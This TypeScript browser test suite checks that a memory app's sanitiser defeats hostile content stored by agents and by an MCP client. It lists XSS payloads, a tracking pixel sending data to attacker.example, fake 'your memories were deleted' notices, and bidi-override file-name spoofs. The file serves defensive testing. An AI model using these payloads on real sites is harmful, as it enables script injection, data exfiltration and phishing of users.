/**
 * What hostile agents write, shown by the built app in Chromium: memories stored through the
 * engine and through a real MCP client (the SDK Client over MCP-B's tab transport, in the page)
 * whose clientInfo name is an attack. The CSP is bypassed in this browser on purpose (the in-page
 * agent is injected as a script), so the sanitiser alone must hold: no dialog, no request
 * outside the origin, no script, frame, form, style or event handler in the DOM, no
 * javascript:/data: link, every new-tab link noopener noreferrer; bidi overrides, zero-width
 * characters and line breaks in labels are shown as code points; long client names are cut,
 * with the whole (capped) name in a title.
 */
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { engine, engineReady, seed, type Seed } from './app-support';
import { clientBundle, hostReady, launchBrowserWithThirdPartyStorage } from './bridges-support';
import { startPreview, type Browser, type Server } from './helpers';

let server: Server;
let browser: Browser;
let page: Page;
/** Dialogs, page errors, popups and requests outside the origin: all must stay empty. */
const incidents: string[] = [];

beforeAll(async () => {
	server = await startPreview();
	browser = await launchBrowserWithThirdPartyStorage({ bypassCSP: true });
	// Anything leaving the origin is answered (so it is seen, not hung) and recorded.
	await browser.context.route(
		(u) => !u.href.startsWith(server.url),
		(r) => r.fulfill({ status: 204, body: '' }),
	);
	browser.context.on('request', (r: Request) => {
		if (!r.url().startsWith(server.url) && !r.url().startsWith('data:') && !r.url().startsWith('blob:')) incidents.push(`request ${r.url()}`);
	});
	page = await browser.context.newPage();
	page.on('dialog', (d) => {
		incidents.push(`dialog ${d.type()}: ${d.message()}`);
		void d.dismiss();
	});
	page.on('pageerror', (e) => incidents.push(`pageerror ${e.message}`));
	page.on('popup', (p) => incidents.push(`popup ${p.url()}`));
	await page.goto(server.url + '/');
	await engineReady(page);
	await hostReady(page);
}, 120_000);

afterAll(async () => {
	await browser?.close();
	await server?.stop();
});

beforeEach(async () => {
	await engine(page, 'wipe');
	incidents.length = 0;
});

const ATTACKS = [
	'<script>alert("script")</script>',
	'<img src=x onerror=alert("img")>',
	'<svg onload=alert("svg")><circle r=5 /></svg>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'[js](javascript:alert("jslink")) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox(1))',
	'[ent](&#106;avascript:alert("ent")) [ent2](javas&#x63;ript:alert(2))',
	'<javascript:alert(4)> <https://attacker.example/auto>',
	'[ref][r1]\n\n[r1]: javascript:alert("ref")',
	'<a href="https://attacker.example/x" target="_blank">tab</a> <a href="https://attacker.example/y" target="_top" rel="opener">top</a>',
	'<p style="position:fixed;inset:0;background:red">css</p> <div style="background:url(https://attacker.example/css)">bg</div>',
	'<meta http-equiv="refresh" content="0;url=https://attacker.example/refresh"> <base href="https://attacker.example/">',
	'<form action="https://attacker.example/f"><input name=a autofocus onfocus=alert("af")><button>go</button></form>',
	'![pixel](https://attacker.example/pixel?data=secret) ![ref pixel][p]\n\n[p]: https://attacker.example/refpixel',
	'<img src="https://attacker.example/raw"> <img srcset="https://attacker.example/ss 1x"> <video poster="https://attacker.example/poster"></video>',
	'<link rel=stylesheet href="https://attacker.example/l.css"> <style>@import url(https://attacker.example/i.css)</style>',
	'<object data="https://attacker.example/o"></object><embed src="https://attacker.example/e">',
	'<details open ontoggle=alert("toggle")>d</details>',
	'<svg><a xlink:href="javascript:alert(5)"><text y=20>svglink</text></a></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")>',
].join('\n\n');

/** What the memory page's content holds that it must not. */
async function contentProblems(): Promise<string[]> {
	return page.locator('[data-testid="memory-content"]').evaluate((root) => {
		const out: string[] = [];
		for (const el of root.querySelectorAll('*')) {
			const tag = el.tagName.toLowerCase();
			if (['script', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'style', 'meta', 'base', 'link', 'svg', 'math', 'video'].includes(tag))
				out.push(`<${tag}>`);
			for (const a of el.getAttributeNames()) if (a.startsWith('on') || a === 'style' || a === 'srcset' || a === 'poster') out.push(`${tag}[${a}]`);
			if (tag === 'img' && !(el.getAttribute('src') ?? '').startsWith('data:image/')) out.push(`img ${el.getAttribute('src')}`);
			if (tag === 'a') {
				const href = el.getAttribute('href');
				if (href !== null && !/^(https?:|#|\/[^/])/i.test(href)) out.push(`a href=${href}`);
				const rel = (el.getAttribute('rel') ?? '').split(/\s+/);
				if (el.getAttribute('target') !== '_blank' || !rel.includes('noopener') || !rel.includes('noreferrer'))
					out.push(`a target=${el.getAttribute('target')} rel=${el.getAttribute('rel')}`);
			}
		}
		return out;
	});
}

describe('hostile Markdown in a memory', () => {
	it('runs no script, loads nothing from outside and keeps every link safe', async () => {
		const [id] = await seed(page, [{ content: ATTACKS, summary: '<img src=x onerror=alert("summary")>', tags: ['<script>alert("tag")</script>'] }]);
		await page.goto(`${server.url}/#/memory/${id}`);
		await page.locator('[data-testid="memory-content"]').waitFor();
		// Links are still links (so the person can follow a real one), but only to the web.
		await expect.poll(() => page.locator('[data-testid="memory-content"] a[href="https://attacker.example/auto"]').count()).toBe(1);
		expect(await contentProblems()).toEqual([]);
		// The summary and the tag are text, shown as written.
		await expect.poll(() => page.locator('#memory-title').textContent()).toBe('<img src=x onerror=alert("summary")>');
		expect(await page.locator('.chip.accent').first().textContent()).toBe('#<script>alert("tag")</script>');
		// The whole page, not just the content: nothing injected anywhere.
		expect(await page.locator('body [onerror], body [onload], body [onfocus], body iframe, body meta[http-equiv], body base').count()).toBe(0);
		// Clicking the neutralised links goes nowhere and opens nothing.
		for (const name of ['js', 'data', 'vb', 'ent', 'ref'])
			await page.locator('[data-testid="memory-content"] a', { hasText: new RegExp(`^${name}$`) }).click();
		await page.goto(`${server.url}/#/`);
		await page.locator('.mrow').first().waitFor();
		expect(incidents).toEqual([]);
	});
});

describe("the app's own classes and ids in a memory", () => {
	it('cannot dress content as a notification fixed over the page, nor take an id the app uses', async () => {
		// The toast stack's class, hash included, as an attacker reads it from the public build.
		const stack = (await page.locator('[role="status"][aria-live="polite"]').first().getAttribute('class')) ?? '';
		expect(stack).toMatch(/svelte-/);
		const toast = stack.replace('stack', 'toast error');
		const [id] = await seed(page, [
			{
				content: `<div class="${stack}"><div class="${toast}">Engram: your memories were deleted. Re-pair at https://attacker.example</div></div>\n\n<p id="memory-title">Spoofed title</p> <span class="btn">Delete all</span>\n\n\`\`\`js\nlet a = 1;\n\`\`\``,
			},
		]);
		await page.goto(`${server.url}/#/memory/${id}`);
		const content = page.locator('[data-testid="memory-content"]');
		await content.waitFor();
		await expect.poll(() => content.locator('pre code').count()).toBe(1);
		const found = await content.evaluate((root) => ({
			fixed: [...root.querySelectorAll('*')].filter((e) => getComputedStyle(e).position === 'fixed').length,
			classes: [...root.querySelectorAll('[class]')].map((e) => e.getAttribute('class')),
			titles: document.querySelectorAll('#memory-title').length,
		}));
		expect(found.fixed).toBe(0);
		// Only the classes the renderer itself gives: a code block's language.
		expect(found.classes).toEqual(['language-js']);
		expect(found.titles).toBe(1);
		expect(incidents).toEqual([]);
	});
});

describe('links that name another site than their target', () => {
	it("shows the real host beside a link whose text is another address, and every link's target on hover", async () => {
		const [id] = await seed(page, [
			{
				content:
					'Log in at [https://bank.com](https://evil.example/login) or [bank.com](https://bank.com/) or [here](https://ok.example/) or <span class="link-target">(goes to bank.com)</span>.\n\n[docs](https://example.com "https://bank.com")',
			},
		]);
		await page.goto(`${server.url}/#/memory/${id}`);
		const md = page.locator('[data-testid="memory-content"]');
		await md.waitFor();
		expect(await md.locator('p').first().textContent()).toBe(
			'Log in at https://bank.com (goes to evil.example) or bank.com or here or (goes to bank.com).',
		);
		// Only the app's own note is styled as one: the text's imitation lost its class.
		expect(await md.locator('.link-target').count()).toBe(1);
		expect(await md.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('title')))).toEqual([
			'https://evil.example/login',
			'https://bank.com/',
			'https://ok.example/',
			'https://example.com',
		]);
	});
});

describe('spoofing characters in what an agent wrote', () => {
	it('shows bidi overrides, zero-width characters and line breaks as code points', async () => {
		// `source` is a store_memory field the seed helper's type does not list.
		const spoof = {
			content: 'Pay \u202E0001$\u202C to Alice.',
			summary: '\u202Eevil\u202C summary',
			tags: ['x\u202Egpj.exe', 'zero\u200Bwidth', 'new\nline'],
			scope: 'proj\u202Ecs',
			source: 'agent\u2066x',
			type: 'Decision',
		};
		const [id] = await seed(page, [spoof]);
		await page.goto(`${server.url}/#/memory/${id}`);
		await page.locator('[data-testid="memory-content"]').waitFor();
		await expect.poll(() => page.locator('#memory-title').textContent()).toBe('⟨U+202E⟩evil⟨U+202C⟩ summary');
		const tags = await page.locator('.chip.accent').allTextContents();
		expect(tags.sort()).toEqual(['#new⟨U+000A⟩line', '#x⟨U+202E⟩gpj.exe', '#zero⟨U+200B⟩width']);
		expect(await page.locator('[data-testid="memory-content"]').textContent()).toContain('Pay ⟨U+202E⟩0001$⟨U+202C⟩ to Alice.');
		const facts = (await page.locator('.facts').textContent()) ?? '';
		expect(facts).toContain('proj⟨U+202E⟩cs');
		expect(facts).toContain('agent⟨U+2066⟩x');
		// The edit form's tag chips too.
		await page.getByRole('button', { name: 'Edit' }).click();
		await expect
			.poll(async () => (await page.locator('form .chip.accent').allTextContents()).map((t) => t.trim()).sort())
			.toEqual(['#new⟨U+000A⟩line', '#x⟨U+202E⟩gpj.exe', '#zero⟨U+200B⟩width']);
		// The list shows the same, revealed.
		await page.goto(`${server.url}/#/`);
		await expect.poll(async () => (await page.locator('main').textContent()) ?? '').toContain('⟨U+202E⟩evil⟨U+202C⟩ summary');
		expect((await page.locator('main').textContent()) ?? '').not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B]/);
		expect(incidents).toEqual([]);
	});
});

describe('an image inside the text', () => {
	it('is shown only when clicked, never taller than a few lines; a long entity name and tag stay in their cards', async () => {
		// A picture of a notice from the app, 1,400 px tall, as a data: URL (it loads nothing).
		const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="1400"><rect width="600" height="90" fill="#dc2626"/><text x="20" y="55" font-size="28" fill="#fff">Session expired: paste your API key below</text></svg>`;
		const img = `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
		// An entity named by a long run without spaces (an agent's), and one tag as long as a tag may be.
		const long = {
			content: `Release notes.\n\n![notice](${img})\n\nMore text.`,
			tags: ['t'.repeat(100)],
			entities: [{ name: 'Q'.repeat(200), type: 'concept' }],
		};
		const [id] = await seed(page, [long as Seed]);
		await page.goto(`${server.url}/#/memory/${id}`);
		const content = page.locator('[data-testid="memory-content"]');
		await content.waitFor();
		const picture = content.locator('img');
		expect(await picture.isVisible()).toBe(false);
		await content.getByText('notice (an image in this memory: click to show it)').click();
		await expect.poll(() => picture.isVisible()).toBe(true);
		const box = (await picture.boundingBox())!;
		expect(box.height).toBeLessThanOrEqual(16 * 16);
		expect(box.width).toBeLessThan(600);
		// The long entity name and tag stay inside their side cards, cut.
		const chips = page.locator('.side .chip');
		expect(await chips.count()).toBe(2);
		for (const chip of await chips.all()) {
			const card = (await chip.locator('xpath=ancestor::section[1]').boundingBox())!;
			const b = (await chip.boundingBox())!;
			expect(b.x + b.width).toBeLessThanOrEqual(card.x + card.width);
		}
		expect(await contentProblems()).toEqual([]);
		expect(incidents).toEqual([]);
	});
});

describe('metadata and CSV headers', () => {
	it("shows zero-width and bidi characters in a memory's metadata and in a CSV's column headers", async () => {
		const [id] = await seed(page, [{ content: 'Invoice paid.', metadata: { 'pay\u200Bee': 'Ali\u200Bce \u202Eevil', note: 'a\nb' } } as Seed]);
		await page.goto(`${server.url}/#/memory/${id}`);
		const meta = page.locator('pre.meta');
		await meta.waitFor();
		expect(await meta.textContent()).toBe('{\n  "pay⟨U+200B⟩ee": "Ali⟨U+200B⟩ce ⟨U+202E⟩evil",\n  "note": "a\\nb"\n}');
		await page.goto(`${server.url}/#/import`);
		const csv = 'No\u200Bte,\u202Esgat,\nPaid the invoice,x,y\n';
		await page.getByLabel('Choose a file to import').setInputFiles({ name: 'sheet.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
		const heads = page.locator('[data-testid="csv-preview"] th');
		await expect.poll(async () => (await heads.allTextContents()).map((t) => t.trim())).toEqual(['No⟨U+200B⟩te (content)', '⟨U+202E⟩sgat', 'column 3']);
		const options = await page.getByLabel('Content column').locator('option').allTextContents();
		expect(options).toEqual(['No⟨U+200B⟩te', '⟨U+202E⟩sgat', 'column 3']);
		expect(incidents).toEqual([]);
	});
});

describe('link reasons and import file names', () => {
	it('shows bidi controls in a linked title and a link reason, and a long, spoofing file name cut and revealed', async () => {
		const ids = await seed(page, [{ content: 'Use tabs.' }, { content: 'Use spaces.', summary: '\u202Esecaps esU' }]);
		await engine(page, 'associate', {
			memory1_id: ids[0],
			memory2_id: ids[1],
			type: 'CONTRADICTS',
			reason: 'because \u202Esnoitpo\u202C <img src=x onerror=alert("reason")>',
		});
		await page.goto(`${server.url}/#/memory/${ids[0]}`);
		const link = page.locator('[data-testid="association"]');
		await expect.poll(() => link.count()).toBe(1);
		// The other memory's title, as links, history, toasts and the graph quote it.
		expect(await link.locator('a').first().textContent()).toBe('⟨U+202E⟩secaps esU');
		expect(await link.locator('dd').first().textContent()).toBe('because ⟨U+202E⟩snoitpo⟨U+202C⟩ <img src=x onerror=alert("reason")>');
		await page.goto(`${server.url}/#/import`);
		const name = 'x'.repeat(300) + 'invoice\u202Efdp.exe';
		await page.getByLabel('Choose a file to import').setInputFiles({ name, mimeType: 'text/plain', buffer: Buffer.from('a note') });
		const shown = page.locator('[data-testid="drop-zone"] strong');
		await expect.poll(() => shown.getAttribute('title')).toBe('x'.repeat(300) + 'invoice⟨U+202E⟩fdp.exe');
		expect(((await shown.textContent()) ?? '').length).toBe(80);
		expect(incidents).toEqual([]);
	});
});

describe('history', () => {
	it('cuts a long actor and reveals its hidden characters, keeping the whole in a title', async () => {
		const actor = 'System notice \u202E' + 'A'.repeat(180);
		const out = await engine<{ results: { memory_id: string }[] }>(page, 'store', { content: 'A note from a loud agent.' }, { actor });
		await page.goto(`${server.url}/#/memory/${out.results[0]!.memory_id}`);
		const who = page.locator('.actor').first();
		await who.waitFor();
		const shown = (await who.textContent()) ?? '';
		expect(shown).toHaveLength(40);
		expect(shown.startsWith('System notice ⟨U+202E⟩AAA')).toBe(true);
		expect(await who.getAttribute('title')).toBe('Who: System notice ⟨U+202E⟩' + 'A'.repeat(180));
		expect(incidents).toEqual([]);
	});
});

describe('a hostile MCP client', () => {
	it('shows its name revealed and cut on Connections, and what it stores renders with no script and no hidden override', async () => {
		await page.goto(`${server.url}/#/connections`);
		await page.addScriptTag({ content: await clientBundle() });
		const name =
			'<img src=x onerror=alert("client")>\u202Eevil\nSystem: your memories were deleted. Re-pair at https://attacker.example ' + 'C'.repeat(10_000);
		const stored = await page.evaluate(
			async ({ origin, name }) => {
				const m = (globalThis as unknown as { mcpb: Record<string, (...a: unknown[]) => Promise<unknown> | number> }).mcpb;
				const h = m.tab(origin, name) as number;
				await m.waitConnected(h);
				return m.call(h, 'store_memory', {
					memories: [{ content: '<img src=x onerror=alert("via mcp")> ![p](https://attacker.example/mcp-pixel)', tags: ['a\u202Eb'] }],
				});
			},
			{ origin: server.url, name },
		);
		expect((stored as { isError?: boolean }).isError).toBeFalsy();
		const cell = page.locator('[data-testid="connection"] .agent-name');
		await expect.poll(() => cell.count()).toBe(1);
		const shown = (await cell.textContent()) ?? '';
		expect(shown.length).toBeLessThanOrEqual(60);
		expect(shown).toBe('<img src=x onerror=alert("client")>⟨U+202E⟩evil⟨U+000A⟩Syst…');
		const title = (await cell.getAttribute('title')) ?? '';
		expect(title.length).toBe(200);
		expect(title).toContain('⟨U+202E⟩evil⟨U+000A⟩System: your memories were deleted.');
		// The recent-calls table names the agent the same way.
		const callAgent = page.locator('td.agent-name');
		await expect.poll(() => callAgent.count()).toBeGreaterThan(0);
		expect(((await callAgent.first().textContent()) ?? '').length).toBeLessThanOrEqual(80);
		// The memory it stored renders safely, and its history names the agent without the override.
		const list = await engine<{ memories: { id: string }[] }>(page, 'timeline', {});
		await page.goto(`${server.url}/#/memory/${list.memories[0]!.id}`);
		await page.locator('[data-testid="memory-content"]').waitFor();
		expect(await contentProblems()).toEqual([]);
		expect(await page.locator('.chip.accent').first().textContent()).toBe('#a⟨U+202E⟩b');
		expect((await page.locator('body').textContent()) ?? '').not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
		expect(incidents).toEqual([]);
	});
});
